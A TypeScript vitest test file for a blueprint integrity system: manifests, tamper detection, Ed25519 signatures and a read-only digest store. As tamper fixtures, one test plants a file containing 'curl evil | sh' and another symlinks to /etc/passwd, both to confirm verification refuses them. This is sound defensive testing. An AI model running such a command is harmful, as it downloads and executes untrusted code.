import { generateKeyPairSync } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  checkLock,
  importBlueprint,
  listStore,
  manifestDigest,
  computeManifest,
  parseManifest,
  signDigest,
  verifyBlueprint,
  writeManifest,
} from '../../src/blueprint/index.js';
import { NemoclawError } from '../../src/shared/errors.js';

const dirs: string[] = [];
function tmp(prefix: string): string {
  const d = mkdtempSync(join(tmpdir(), `nemoclaw-bp-${prefix}-`));
  dirs.push(d);
  return d;
}
function makeWritable(path: string): void {
  if (!existsSync(path)) return;
  if (statSync(path).isDirectory()) {
    chmodSync(path, 0o755);
    for (const n of readdirSync(path)) makeWritable(join(path, n));
  }
}
afterAll(() => {
  for (const d of dirs) {
    makeWritable(d);
    rmSync(d, { recursive: true, force: true });
  }
});

/** A small blueprint with a nested file, its MANIFEST written. */
function blueprint(version = '1.0.0'): string {
  const dir = tmp('src');
  writeFileSync(join(dir, 'blueprint.yaml'), `name: drill\nversion: ${version}\nagent: { name: drill }\n`);
  writeFileSync(join(dir, 'policy.yaml'), 'version: 1\n');
  mkdirSync(join(dir, 'bin'));
  writeFileSync(join(dir, 'bin', 'drill.mjs'), 'console.log("drill");\n');
  writeManifest(dir);
  return dir;
}

function keyPair(dir: string, name: string): { privatePem: string; pubDir: string } {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const pubDir = join(dir, `keys-${name}`);
  mkdirSync(pubDir);
  writeFileSync(join(pubDir, `${name}.pub`), publicKey.export({ type: 'spki', format: 'pem' }));
  return { privatePem: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), pubDir };
}

function refusal(fn: () => unknown): NemoclawError {
  try {
    fn();
  } catch (err) {
    if (err instanceof NemoclawError) return err;
    throw err;
  }
  throw new Error('expected a refusal');
}

const noKeys = { trustedKeyDirs: [] };

describe('manifest and digest', () => {
  it('lists every file with its sha256, sorted, and the digest is the sha256 of that text', () => {
    const dir = blueprint();
    const text = readFileSync(join(dir, 'MANIFEST'), 'utf8');
    expect(text.split('\n').filter(Boolean).map((l) => l.slice(66))).toEqual(['bin/drill.mjs', 'blueprint.yaml', 'policy.yaml']);
    const v = verifyBlueprint(dir, noKeys);
    expect(v).toMatchObject({ name: 'drill', version: '1.0.0', files: 3, signature: { state: 'unsigned' } });
    expect(v.digest).toBe(manifestDigest(parseManifest(text)));
    expect(v.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    // The same content elsewhere has the same digest.
    const twin = blueprint();
    expect(verifyBlueprint(twin, noKeys).digest).toBe(v.digest);
    expect(manifestDigest(computeManifest(dir))).toBe(v.digest);
  });

  it('refuses a tampered byte, naming the file', () => {
    const dir = blueprint();
    writeFileSync(join(dir, 'policy.yaml'), 'version: 2\n');
    const err = refusal(() => verifyBlueprint(dir, noKeys));
    expect(err.exitCode).toBe(1);
    expect(err.message).toContain('file "policy.yaml" does not match its MANIFEST entry');
  });

  it('refuses an extra file and a missing file, naming the first in path order', () => {
    const extra = blueprint();
    writeFileSync(join(extra, 'bin', 'payload.sh'), 'curl evil | sh\n');
    expect(refusal(() => verifyBlueprint(extra, noKeys)).message).toContain('file "bin/payload.sh" is not listed in MANIFEST');

    const missing = blueprint();
    rmSync(join(missing, 'bin', 'drill.mjs'));
    writeFileSync(join(missing, 'zzz.txt'), 'x');
    expect(refusal(() => verifyBlueprint(missing, noKeys)).message).toContain('file "bin/drill.mjs" is listed in MANIFEST but missing');
  });

  it('refuses a malformed MANIFEST with its line number, a missing MANIFEST, and symlinks', () => {
    const dir = blueprint();
    writeFileSync(join(dir, 'MANIFEST'), `${readFileSync(join(dir, 'MANIFEST'), 'utf8')}not a line\n`);
    expect(refusal(() => verifyBlueprint(dir, noKeys)).message).toMatch(/MANIFEST:4: expected/);

    const bare = blueprint();
    rmSync(join(bare, 'MANIFEST'));
    expect(refusal(() => verifyBlueprint(bare, noKeys)).message).toContain('no MANIFEST');

    const linked = blueprint();
    symlinkSync('/etc/passwd', join(linked, 'passwd'));
    expect(refusal(() => verifyBlueprint(linked, noKeys)).message).toContain('"passwd" is not a regular file');
  });

  it('refuses a blueprint.yaml without a semver version', () => {
    const dir = blueprint('one');
    expect(refusal(() => verifyBlueprint(dir, noKeys)).message).toContain('"version" must be a semantic version');
  });
});

describe('Ed25519 signatures', () => {
  it('accepts a signature by a trusted key and names the signer', () => {
    const dir = blueprint();
    const keys = tmp('keys');
    const signer = keyPair(keys, 'release');
    const digest = verifyBlueprint(dir, noKeys).digest;
    const sig = signDigest(dir, digest, signer.privatePem);
    const v = verifyBlueprint(dir, { trustedKeyDirs: [signer.pubDir] });
    expect(v.signature).toMatchObject({ state: 'trusted', keyId: sig.key_id });
  });

  it('refuses a signature by a key that is not trusted, and a signature over another digest', () => {
    const dir = blueprint();
    const keys = tmp('keys');
    const signer = keyPair(keys, 'someone');
    const trusted = keyPair(keys, 'release');
    signDigest(dir, verifyBlueprint(dir, noKeys).digest, signer.privatePem);
    const err = refusal(() => verifyBlueprint(dir, { trustedKeyDirs: [trusted.pubDir] }));
    expect(err.message).toMatch(/signed by key [0-9a-f]{16}, which is not trusted/);
    expect(err.nextStep).toContain('trusted-keys');

    // Re-signed file, then a file changed and MANIFEST regenerated by someone without the key.
    signDigest(dir, manifestDigest(computeManifest(dir)), trusted.privatePem);
    writeFileSync(join(dir, 'policy.yaml'), 'version: 1\n# allow everything\n');
    writeManifest(dir);
    expect(refusal(() => verifyBlueprint(dir, { trustedKeyDirs: [trusted.pubDir] })).message).toMatch(/SIGNATURE was made for sha256:.*but the blueprint's digest is/);
  });

  it('refuses a forged signature value', () => {
    const dir = blueprint();
    const keys = tmp('keys');
    const signer = keyPair(keys, 'release');
    const sig = signDigest(dir, verifyBlueprint(dir, noKeys).digest, signer.privatePem);
    const forged = Buffer.from(sig.signature, 'base64');
    forged[0] = forged[0]! ^ 0xff;
    writeFileSync(join(dir, 'SIGNATURE'), JSON.stringify({ ...sig, signature: forged.toString('base64') }));
    expect(refusal(() => verifyBlueprint(dir, { trustedKeyDirs: [signer.pubDir] })).message).toContain('the signature does not verify');
  });
});

describe('content-addressed store and lock', () => {
  it('copies a verified blueprint under its digest, read-only, and lists it', () => {
    const src = blueprint();
    const store = join(tmp('home'), 'blueprints');
    const stored = importBlueprint(src, store, noKeys);
    expect(stored.dir).toBe(join(store, stored.digest.replace(':', '-')));
    expect(statSync(join(stored.dir, 'blueprint.yaml')).mode & 0o777).toBe(0o444);
    expect(statSync(stored.dir).mode & 0o777).toBe(0o555);
    // Importing again is a no-op.
    expect(importBlueprint(src, store, noKeys).dir).toBe(stored.dir);
    expect(listStore(store, noKeys)).toEqual([
      { name: 'drill', version: '1.0.0', digest: stored.digest, signer: 'unsigned', dir: stored.dir, ok: true },
    ]);
  });

  it('does not store a tampered blueprint', () => {
    const src = blueprint();
    writeFileSync(join(src, 'blueprint.yaml'), 'name: drill\nversion: 6.6.6\n');
    const store = join(tmp('home'), 'blueprints');
    expect(() => importBlueprint(src, store, noKeys)).toThrow(/blueprint\.yaml/);
    expect(existsSync(store) ? readdirSync(store) : []).toEqual([]);
  });

  it('pins the sandbox to its digest; a replaced blueprint needs --upgrade', () => {
    const sandboxDir = tmp('sandbox');
    const v1 = verifyBlueprint(blueprint('1.0.0'), noKeys);
    const v2 = verifyBlueprint(blueprint('1.1.0'), noKeys);
    expect(checkLock(sandboxDir, v1).digest).toBe(v1.digest);
    expect(checkLock(sandboxDir, v1).digest).toBe(v1.digest);
    const err = refusal(() => checkLock(sandboxDir, v2));
    expect(err.code).toBe('conflict');
    expect(err.message).toContain('drill 1.0.0');
    expect(err.nextStep).toContain('--upgrade');
    expect(checkLock(sandboxDir, v2, { upgrade: true }).digest).toBe(v2.digest);
    expect(JSON.parse(readFileSync(join(sandboxDir, 'blueprint.lock.json'), 'utf8'))).toMatchObject({ version: '1.1.0', digest: v2.digest });
  });
});
